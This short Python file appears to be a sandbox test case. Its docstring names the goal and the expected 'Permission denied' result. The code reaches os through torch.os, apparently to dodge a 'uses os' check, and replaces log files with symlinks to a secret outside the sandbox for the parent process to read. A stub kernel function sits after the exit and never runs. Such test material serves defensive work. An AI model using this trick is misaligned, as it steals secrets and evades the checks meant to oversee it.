"""Put a link to a secret in place of its log, which its parent reads.

Gate: uses os
Told: Operation not permitted|Permission denied
"""

import torch

for name in torch.os.listdir():
    if name.startswith("log-"):
        torch.os.unlink(name)
        torch.os.symlink("@OUTSIDE@/secret", name)
raise SystemExit


def delta_rule_chunkwise(q, k, v, beta, initial_state=None, chunk_size=32):
    o = beta.unsqueeze(-1) * v
    return o, v.new_zeros(len(v), 1)
